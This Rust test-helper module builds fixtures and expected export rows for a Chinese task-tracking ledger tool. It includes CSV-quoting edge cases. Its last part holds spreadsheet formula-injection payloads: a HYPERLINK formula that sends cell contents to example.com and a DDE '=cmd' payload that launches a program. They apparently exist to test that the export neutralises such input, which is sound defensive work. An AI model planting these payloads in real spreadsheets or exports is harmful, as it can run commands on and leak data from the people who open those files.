//! Seeds 003 and 004 through the real parser, the ledger the export builds from them,
//! and the cells expected for each task, computed from the parsed outline directly
//! (not through the export code) so that the tests compare two independent paths.
#![allow(dead_code)]

use duban::export::{Ledger, Mark};
use duban::filter::{Filter, OutlineIndex};
use duban::parser::{parse, NodeKind, Outline};

pub const SEED_003: &str = "tests/fixtures/003_e3432d323480545b.txt";
pub const SEED_004: &str = "tests/fixtures/004_d6df480bf758b7b9.txt";

/// A task text with everything a CSV writer must quote.
pub const TRICKY_TEXT: &str = "推进\"数字政府\"建设,提升效能\n第二行：\"最多跑一次\"";
/// A note over several lines, as a user types it.
pub const TRICKY_NOTE: &str = "已报送,待审核\n联系人：\"张三\"";

pub struct Seed {
    pub outline: Outline,
    pub index: OutlineIndex,
}

/// The parsed seed; for 004 the first task's text and note are made tricky (the parser
/// joins lines, so a newline inside a text only comes from such an edit).
pub fn seed(path: &str) -> Seed {
    let text = std::fs::read_to_string(path).unwrap();
    let mut outline = parse(&text);
    if path == SEED_004 {
        let first = first_task(&mut outline);
        first.text = TRICKY_TEXT.to_owned();
    }
    let index = OutlineIndex::new(&outline);
    Seed { outline, index }
}

fn first_task(outline: &mut Outline) -> &mut duban::parser::Node {
    fn find(nodes: &mut [duban::parser::Node]) -> Option<&mut duban::parser::Node> {
        for node in nodes {
            if node.kind == NodeKind::Task {
                return Some(node);
            }
            if let Some(found) = find(&mut node.children) {
                return Some(found);
            }
        }
        None
    }
    let doc = outline
        .documents
        .iter_mut()
        .find(|d| d.tasks().next().is_some())
        .unwrap();
    find(&mut doc.nodes).unwrap()
}

/// The status the tests give task number `n` (0-based among all tasks): every third
/// done; the first task carries [`TRICKY_NOTE`]; every fourth from the second a due
/// date of the user's.
pub fn mark_of(n: usize) -> Mark {
    Mark {
        status: if n.is_multiple_of(3) {
            "已完成"
        } else {
            "未到期"
        }
        .to_owned(),
        note: if n == 0 {
            TRICKY_NOTE.to_owned()
        } else {
            String::new()
        },
        due: if n % 4 == 1 {
            "2026-12-31".to_owned()
        } else {
            String::new()
        },
    }
}

/// The ledger of `filter`'s view, dated 2026-11-22, with [`mark_of`] by task position.
pub fn ledger(seed: &Seed, filter: &Filter) -> Ledger {
    let matches = seed.index.apply(filter, &|_| false);
    let position: Vec<usize> = {
        let mut n = 0;
        seed.index
            .nodes()
            .iter()
            .map(|node| {
                let p = n;
                if node.is_task() {
                    n += 1;
                }
                p
            })
            .collect()
    };
    Ledger::of_view(&seed.index, filter, &matches, "2026-11-22", |i| {
        mark_of(position[i])
    })
}

/// The eleven cells of every task of the outline, in document order, straight from the
/// parser's model; `keep(lead_keys, coop_keys)` chooses tasks.
pub fn expected_rows(
    outline: &Outline,
    keep: impl Fn(&[String], &[String]) -> bool,
) -> Vec<[String; 11]> {
    let several = outline.documents.len() > 1;
    let mut out = Vec::new();
    let mut n = 0;
    for doc in &outline.documents {
        for top in &doc.nodes {
            let mut section = match (&top.kind, &top.number) {
                (NodeKind::Section, Some(num)) => format!("{num}{}", top.text),
                (NodeKind::Section, None) => top.text.clone(),
                _ => String::new(),
            };
            if several {
                if let Some(t) = &doc.title {
                    section = format!("《{t}》{section}");
                }
            }
            for task in top.walk().filter(|t| t.kind == NodeKind::Task) {
                let mark = mark_of(n);
                n += 1;
                let lead: Vec<String> = task.lead_units.iter().map(|u| u.key.clone()).collect();
                let coop: Vec<String> = task.coop_units.iter().map(|u| u.key.clone()).collect();
                if !keep(&lead, &coop) {
                    continue;
                }
                let leaders: Vec<String> = task
                    .leaders
                    .iter()
                    .map(|l| match &l.post {
                        Some(p) => format!("{}（{p}）", l.name),
                        None => l.name.clone(),
                    })
                    .collect();
                let names = |units: &[duban::parser::Unit]| {
                    units
                        .iter()
                        .map(|u| u.name.as_str())
                        .collect::<Vec<_>>()
                        .join("、")
                };
                out.push([
                    (out.len() + 1).to_string(),
                    section.clone(),
                    task.number.clone().unwrap_or_default(),
                    if task.body.is_empty() {
                        task.text.clone()
                    } else {
                        format!("{}\n{}", task.text, task.body)
                    },
                    leaders.join("、"),
                    names(&task.lead_units),
                    names(&task.coop_units),
                    task.deadline
                        .as_ref()
                        .map(|d| d.text.clone())
                        .unwrap_or_default(),
                    mark.due,
                    mark.status,
                    mark.note,
                ]);
            }
        }
    }
    out
}

pub fn all(_: &[String], _: &[String]) -> bool {
    true
}

/// A filter on one unit, any role.
pub fn unit_filter(key: &str) -> Filter {
    Filter {
        units: vec![key.to_owned()],
        ..Filter::default()
    }
}

/// A document whose texts, units and note a spreadsheet would run as formulas.
pub const FORMULA_DOCUMENT: &str = "2024年测试清单\n一、=HYPERLINK(\"http://example.com/?d=\"&A1,\"点击查看\")\n责任单位：市发改局\n二、@SUM(1+1)推进工作\n配合单位：=1+2局\n三、+1+2 推进工作\n四、-2+3 推进工作\n五、 =1+1 推进工作\n";

/// [`FORMULA_DOCUMENT`] parsed, with the note `=cmd|' /C calc'!A0` on its first task.
pub fn formula_ledger() -> Ledger {
    let outline = parse(FORMULA_DOCUMENT);
    let index = OutlineIndex::new(&outline);
    let filter = Filter::default();
    let matches = index.apply(&filter, &|_| false);
    let mut first = true;
    Ledger::of_view(&index, &filter, &matches, "2026-11-22", |_| Mark {
        status: String::new(),
        note: if std::mem::take(&mut first) {
            "=cmd|' /C calc'!A0".to_owned()
        } else {
            "-".to_owned()
        },
        due: String::new(),
    })
}
